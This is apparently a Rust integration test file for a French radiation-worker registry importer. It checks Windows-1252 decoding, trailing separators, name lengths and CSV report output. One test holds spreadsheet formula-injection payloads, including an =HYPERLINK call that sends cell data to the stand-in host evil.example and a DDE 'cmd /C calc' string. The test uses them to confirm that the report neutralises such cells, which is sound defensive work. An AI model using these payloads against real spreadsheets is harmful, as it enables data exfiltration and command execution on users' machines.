//! Files as real senders write them (exchange.md §1, §2): Windows-1252 from the SISERI 2
//! template's export macro, from Excel and from an INB operator's system, headers ending
//! with `;`, names of up to 100 characters; and the CSV report's cells that a spreadsheet
//! would run as formulas (issue 12, items 1 and 8). The files are in `tests/fixtures/`.

#![allow(clippy::unwrap_used)]

mod support;

use siseri_domain::Nir;
use siseri_domain::codes::TransmissionFormat;
use siseri_import::CsvEncoding;
use siseri_import::report::write_csv;
use support::*;

fn fixture(name: &str) -> Vec<u8> {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn codes(report: &siseri_import::Report) -> Vec<&str> {
    report.file_errors.iter().map(|e| e.code.as_str()).collect()
}

async fn name_of(r: &Registry, nir: &str) -> (String, String) {
    let w = r
        .store()
        .worker(&Nir::parse(nir).unwrap())
        .await
        .unwrap()
        .unwrap_or_else(|| panic!("[{}] {nir} not stored", r.engine()));
    (w.nom, w.prenom)
}

/// The CSV report of a stored transmission, rebuilt from the kept file.
async fn csv_report(r: &Registry, report: &siseri_import::Report) -> String {
    let id = report.transmission.unwrap();
    let mut kept = Vec::new();
    let mut part = 0;
    while let Some(bytes) = r.store().transmission_file_part(id, part).await.unwrap() {
        kept.extend(bytes);
        part += 1;
    }
    let stored = r.stored_report(id).await;
    let csv = write_csv(
        TransmissionFormat::parse(&stored.format).unwrap(),
        false,
        kept.as_slice(),
        &stored,
        &stored.lines,
        Vec::new(),
    )
    .unwrap();
    String::from_utf8(csv).unwrap()
}

/// The template's export macro: every field quoted, CRLF, Windows-1252, the template's own
/// default group "Groupe par défaut", LEFÈVRE. Stored as Unicode, with the warning; the same
/// worker sent again in UTF-8 is the same worker (`DOUBLON`).
#[tokio::test]
async fn the_template_macro_windows_1252_file_is_read() {
    let body = fixture("travailleurs-macro-windows-1252.csv");
    assert!(std::str::from_utf8(&body).is_err());
    for r in registries().await {
        let e = r.engine();
        let report = r
            .try_send(
                &r.employer,
                TransmissionFormat::Workers,
                &body,
                false,
                false,
            )
            .await
            .unwrap();
        assert_eq!(codes(&report), ["ENCODAGE_WINDOWS_1252"], "[{e}]");
        assert!(
            report.file_errors[0].message.contains("Windows-1252"),
            "[{e}]"
        );
        assert_eq!(report.refusal(), None);
        assert_eq!(
            (report.totals.lines, report.totals.accepted),
            (3, 3),
            "[{e}] {:?}",
            report.lines
        );
        assert_eq!(
            name_of(&r, "2900175001001").await,
            ("LEFÈVRE".to_owned(), "Hélène".to_owned()),
            "[{e}]"
        );
        assert_eq!(
            name_of(&r, "1900175001002").await,
            ("CŒUR DE LION".to_owned(), "François".to_owned())
        );
        assert_eq!(
            name_of(&r, "2900175001003").await.0,
            "D’ALEMBERT-MÜLLER",
            "[{e}]"
        );
        let attachment = r
            .store()
            .attachments(&Nir::parse("2900175001001").unwrap())
            .await
            .unwrap();
        assert_eq!(
            attachment[0].current().unwrap().groupe.as_deref(),
            Some("Groupe par défaut"),
            "[{e}]"
        );
        // The report is stored with its warning, and its CSV form is UTF-8 with the names.
        let stored = r.stored_report(report.transmission.unwrap()).await;
        assert_eq!(codes(&stored), ["ENCODAGE_WINDOWS_1252"], "[{e}]");
        let csv = csv_report(&r, &report).await;
        assert!(
            csv.contains(";LEFÈVRE;Hélène;15/03/1990;F;73282932000074;Groupe par défaut;"),
            "[{e}] {csv}"
        );
        // LEFÈVRE sent in UTF-8 is the same name: nothing new.
        let text = siseri_exchange::encoding::decode_any(&body);
        let utf8 = text.lines().take(2).collect::<Vec<_>>().join("\r\n");
        assert!(utf8.contains("\"LEFÈVRE\""));
        let again = r
            .send(&r.employer, TransmissionFormat::Workers, &utf8)
            .await;
        assert!(codes(&again).is_empty(), "[{e}]");
        assert_eq!(outcome(&again, 2), owned("DOUBLON", &[]), "[{e}]");
        r.verify_journal().await;
    }
}

fn owned(status: &str, codes: &[&str]) -> (String, Vec<String>) {
    (
        status.to_owned(),
        codes.iter().map(|c| (*c).to_owned()).collect(),
    )
}

/// Excel's "CSV (séparateur: point-virgule)" on a French Windows: unquoted, Windows-1252,
/// and a header and lines ending with `;`.
#[tokio::test]
async fn an_excel_windows_1252_save_with_a_trailing_separator_is_read() {
    let body = fixture("travailleurs-excel-windows-1252.csv");
    assert!(body.starts_with(b"NIR;CLE;"));
    assert!(
        std::str::from_utf8(&body).is_err() && body.windows(3).any(|w| w == b";\r\n"),
        "the fixture ends its lines with ;"
    );
    for r in registries().await {
        let e = r.engine();
        let report = r
            .try_send(
                &r.employer,
                TransmissionFormat::Workers,
                &body,
                false,
                false,
            )
            .await
            .unwrap();
        assert_eq!(codes(&report), ["ENCODAGE_WINDOWS_1252"], "[{e}]");
        assert_eq!(
            (report.totals.lines, report.totals.accepted),
            (2, 2),
            "[{e}] {:?}",
            report.lines
        );
        assert_eq!(
            name_of(&r, "1900175001012").await,
            ("GARÇON".to_owned(), "Jérôme".to_owned()),
            "[{e}]"
        );
    }
}

/// A header ending with `;` in a UTF-8 file: no warning, no `NB_COLONNES`; a value under
/// the empty name is a field too many.
#[tokio::test]
async fn a_header_ending_with_a_separator_is_read() {
    let (n, k) = nir(1201);
    let ok = WORKERS.line(&[("NIR", &n), ("CLE", &k), ("DATENAISSANCE", "01/01/1990")]);
    let (n2, k2) = nir(1202);
    let extra = WORKERS.line(&[("NIR", &n2), ("CLE", &k2), ("DATENAISSANCE", "01/01/1990")]);
    let body = format!("{};\n{ok};\n{ok}\n{extra};x\n", WORKERS.header());
    for r in registries().await {
        let e = r.engine();
        let report = r
            .send(&r.employer, TransmissionFormat::Workers, &body)
            .await;
        assert!(codes(&report).is_empty(), "[{e}] {:?}", report.file_errors);
        assert_eq!(outcome(&report, 2), owned("ACCEPTE", &[]), "[{e}]");
        assert_eq!(outcome(&report, 3), owned("DOUBLON", &[]), "[{e}]");
        assert_eq!(
            outcome(&report, 4),
            owned("REJETE", &["NB_COLONNES"]),
            "[{e}]"
        );
    }
}

/// An INB operator's operational dosimetry file in Windows-1252 ("Bâtiment réacteur").
#[tokio::test]
async fn an_inb_operators_windows_1252_dosimetry_file_is_read() {
    let body = fixture("dosimetrie-operationnelle-inb-windows-1252.csv");
    for r in registries().await {
        let e = r.engine();
        let report = r
            .try_send(
                &r.operator,
                TransmissionFormat::OperationalDosimetry,
                &body,
                false,
                false,
            )
            .await
            .unwrap();
        assert_eq!(codes(&report), ["ENCODAGE_WINDOWS_1252"], "[{e}]");
        assert_eq!(
            (report.totals.lines, report.totals.accepted),
            (3, 3),
            "[{e}] {:?}",
            report.lines
        );
        let readings = r
            .store()
            .readings(&Nir::parse(DUPONT.0).unwrap())
            .await
            .unwrap();
        let mut places: Vec<(String, String, String)> = readings
            .iter()
            .map(|x| {
                let v = &x.versions.last().unwrap().1;
                (v.lieu.clone(), v.zone.clone(), v.activite.clone())
            })
            .collect();
        places.sort();
        assert_eq!(
            places,
            [
                (
                    "Bâtiment des auxiliaires nucléaires".to_owned(),
                    "Zone contrôlée orange".to_owned(),
                    "Décontamination – piscine".to_owned()
                ),
                (
                    "Bâtiment réacteur 2".to_owned(),
                    "Zone contrôlée jaune".to_owned(),
                    "Échafaudage générateur de vapeur".to_owned()
                ),
            ],
            "[{e}]"
        );
    }
}

/// The sender may force one reading; the CSV report repeats what was read.
#[tokio::test]
async fn a_forced_encoding_is_the_one_read() {
    let macro_file = fixture("travailleurs-macro-windows-1252.csv");
    let (n, k) = nir(1301);
    let utf8 = WORKERS.file(&[WORKERS.line(&[
        ("NIR", &n),
        ("CLE", &k),
        ("NOM", "Zoë"),
        ("DATENAISSANCE", "01/01/1990"),
    ])]);
    for r in registries().await {
        let e = r.engine();
        // Forced UTF-8: the Windows-1252 file is refused.
        let report = r
            .try_send_as(
                &r.employer,
                TransmissionFormat::Workers,
                &macro_file,
                false,
                CsvEncoding::Utf8,
                true,
            )
            .await
            .unwrap();
        assert_eq!(codes(&report), ["ENCODAGE_INVALIDE"], "[{e}]");
        // Forced Windows-1252: a UTF-8 file is read as such (Zoë becomes ZoÃ«, rejected).
        let report = r
            .try_send_as(
                &r.employer,
                TransmissionFormat::Workers,
                utf8.as_bytes(),
                false,
                CsvEncoding::Windows1252,
                false,
            )
            .await
            .unwrap();
        assert_eq!(codes(&report), ["ENCODAGE_WINDOWS_1252"], "[{e}]");
        assert_eq!(
            outcome(&report, 2),
            owned("REJETE", &["NOM_FORMAT"]),
            "[{e}]"
        );
        let csv = csv_report(&r, &report).await;
        assert!(csv.contains(";ZoÃ«;"), "[{e}] {csv}");
        // Forced UTF-8 on a UTF-8 file: as without it (one more empty line: the very same
        // bytes would be answered with the first report, exchange.md §6).
        let again = format!("{utf8}\n");
        let report = r
            .try_send_as(
                &r.employer,
                TransmissionFormat::Workers,
                again.as_bytes(),
                false,
                CsvEncoding::Utf8,
                false,
            )
            .await
            .unwrap();
        assert!(codes(&report).is_empty(), "[{e}]");
        assert_eq!(name_of(&r, &n).await.0, "Zoë", "[{e}]");
    }
}

/// Names of 51 to 100 characters, which the template allows, are accepted in both formats
/// that carry names; 101 are `TEXTE_TROP_LONG`.
#[tokio::test]
async fn names_of_up_to_100_characters() {
    let hundred = format!("{}-{}", "É".repeat(50), "A".repeat(49));
    assert_eq!(hundred.chars().count(), 100);
    let too_long = format!("{hundred}Z");
    let (n, k) = nir(1401);
    let (n2, k2) = nir(1402);
    let workers = WORKERS.file(&[
        WORKERS.line(&[
            ("NIR", &n),
            ("CLE", &k),
            ("NOM", &hundred),
            ("PRENOM", &hundred),
            ("DATENAISSANCE", "01/01/1990"),
        ]),
        WORKERS.line(&[
            ("NIR", &n2),
            ("CLE", &k2),
            ("NOM", &too_long),
            ("DATENAISSANCE", "01/01/1990"),
        ]),
    ]);
    let (n3, k3) = nir(1403);
    let results = RESULTS.file(&[
        RESULTS.line(&[
            ("REFERENCE", "LONG-1"),
            ("NIR", &n3),
            ("CLE", &k3),
            ("NOM", &hundred),
            ("PRENOM", "Anne"),
            ("DATENAISSANCE", "01/01/1990"),
        ]),
        RESULTS.line(&[("REFERENCE", "LONG-2"), ("PRENOM", &too_long)]),
    ]);
    for r in registries().await {
        let e = r.engine();
        let report = r
            .send(&r.employer, TransmissionFormat::Workers, &workers)
            .await;
        assert_eq!(outcome(&report, 2), owned("ACCEPTE", &[]), "[{e}]");
        assert_eq!(
            outcome(&report, 3),
            owned("REJETE", &["TEXTE_TROP_LONG"]),
            "[{e}]"
        );
        assert_eq!(name_of(&r, &n).await, (hundred.clone(), hundred.clone()));
        let report = r.send(&r.lab, TransmissionFormat::Results, &results).await;
        assert_eq!(
            outcome(&report, 2),
            owned("ACCEPTE", &["RATTACHEMENT_ABSENT"]),
            "[{e}]"
        );
        assert_eq!(
            outcome(&report, 3),
            owned("REJETE", &["TEXTE_TROP_LONG"]),
            "[{e}]"
        );
        assert_eq!(name_of(&r, &n3).await.0, hundred, "[{e}]");
    }
}

/// A byte Windows-1252 leaves undefined refuses the file, whatever came before.
#[tokio::test]
async fn an_undefined_byte_refuses_the_file() {
    let mut body = fixture("travailleurs-macro-windows-1252.csv");
    let at = body.iter().position(|b| *b == 0xC8).unwrap();
    body[at] = 0x81;
    for r in registries().await {
        let e = r.engine();
        let report = r
            .try_send(
                &r.employer,
                TransmissionFormat::Workers,
                &body,
                false,
                false,
            )
            .await
            .unwrap();
        assert_eq!(
            report.refusal().map(|c| c.code()),
            Some("ENCODAGE_INVALIDE"),
            "[{e}]"
        );
        assert_eq!(report.totals.accepted, 0);
        assert!(
            r.store()
                .worker(&Nir::parse("2900175001001").unwrap())
                .await
                .unwrap()
                .is_none()
        );
    }
}

/// Values a spreadsheet would run as formulas are neutralised in the CSV report, and the
/// report sent back as it is gives the values of the first send.
#[tokio::test]
async fn formula_cells_are_neutralised_in_the_report_and_read_back() {
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A2;\"Cliquez\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+33 6 12",
        "-1",
        "\tx",
    ];
    let lines: Vec<String> = hostile
        .iter()
        .enumerate()
        .map(|(i, h)| {
            let start = format!("{:02}/06/2026 08:00", i + 2);
            let end = format!("{:02}/06/2026 12:00", i + 2);
            OPERATIONAL.line(&[
                ("LIEU", h),
                ("ACTIVITE", "=1+1"),
                ("DATE_DEBUT_PORT", &start),
                ("DATE_FIN_PORT", &end),
                ("VALEUR", if *h == "-1" { "-1" } else { "0,001" }),
            ])
        })
        .collect();
    let body = OPERATIONAL.file(&lines);
    for r in registries().await {
        let e = r.engine();
        let report = r
            .send(&r.operator, TransmissionFormat::OperationalDosimetry, &body)
            .await;
        let csv = csv_report(&r, &report).await;
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(b';')
            .has_headers(false)
            .from_reader(csv.as_bytes());
        for row in reader.records() {
            for cell in &row.unwrap() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "[{e}] {cell:?}"
                );
            }
        }
        assert!(csv.contains(";\"'=HYPERLINK("), "[{e}] {csv}");
        assert!(csv.contains(";'-1;"), "[{e}] {csv}");
        assert_eq!(report.totals.accepted, 4, "[{e}] {:?}", report.lines);
        // Sent back as it is (a dry run): the values are those stored (DOUBLON).
        let again = r
            .try_send(
                &r.operator,
                TransmissionFormat::OperationalDosimetry,
                csv.as_bytes(),
                false,
                true,
            )
            .await
            .unwrap();
        assert!(codes(&again).is_empty(), "[{e}] {:?}", again.file_errors);
        for line in [2, 3, 4, 6] {
            assert_eq!(outcome(&again, line), owned("DOUBLON", &[]), "[{e}] {line}");
        }
        assert_eq!(
            outcome(&again, 5),
            owned("REJETE", &["VALEUR_FORMAT"]),
            "[{e}]"
        );
        // The values stored are those sent, not the report's neutralised cells.
        let readings = r
            .store()
            .readings(&Nir::parse(DUPONT.0).unwrap())
            .await
            .unwrap();
        let mut places: Vec<String> = readings
            .iter()
            .map(|x| x.versions.last().unwrap().1.lieu.clone())
            .collect();
        places.sort();
        let mut expected: Vec<String> = hostile
            .iter()
            .filter(|h| **h != "-1")
            .map(|h| h.trim().to_owned())
            .collect();
        expected.sort();
        assert_eq!(places, expected, "[{e}]");
    }
}
